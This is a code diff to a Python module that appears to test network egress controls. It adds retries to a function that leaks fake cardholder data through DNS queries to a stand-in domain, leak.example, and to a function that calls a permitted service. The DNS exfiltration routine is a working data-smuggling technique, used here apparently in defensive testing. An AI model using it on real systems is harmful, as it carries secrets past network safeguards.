@@ -15,12 +15,16 @@ import socket
 import ssl
 import struct
 import threading
+import time
 import urllib.request
 from collections.abc import Callable
 
 import postgres  # type: ignore[import-not-found]  # beside this file in the image
 
 SECONDS = 3.0
+"""For one answer."""
+PATIENCE = 30.0
+"""For its own work: the network may take a moment to open what was granted."""
 LOOT = b"cardholder 4111 1111 1111 1111"
 
 
@@ -62,17 +66,30 @@ def carry_data_out() -> str:
     name = b"".join(bytes([len(label)]) + label for label in labels)
     query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!2H", 1, 1)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-        s.settimeout(SECONDS)
+        s.settimeout(SECONDS / 3)
         s.connect((os.environ["RESOLVER"], 53))
-        s.send(query)
-        s.recv(512)
+        for last in (False, False, True):
+            s.send(query)
+            try:
+                s.recv(512)
+                break
+            except TimeoutError:
+                if last:
+                    raise
     return f"asked {LOOT.hex()[:8]}….leak.example"
 
 
 def do_its_work() -> str:
     """Call the one service that it was granted, by name."""
-    with urllib.request.urlopen(os.environ["SERVICE_URL"], timeout=SECONDS) as page:  # noqa: S310 - http, from the demo
-        return str(page.read().decode().strip())
+    until = time.monotonic() + PATIENCE
+    while True:
+        try:
+            with urllib.request.urlopen(os.environ["SERVICE_URL"], timeout=SECONDS) as page:  # noqa: S310 - http
+                return str(page.read().decode().strip())
+        except OSError:
+            if time.monotonic() > until:
+                raise
+            time.sleep(0.2)
 
 
 ATTEMPTS: dict[str, Callable[[], str]] = {
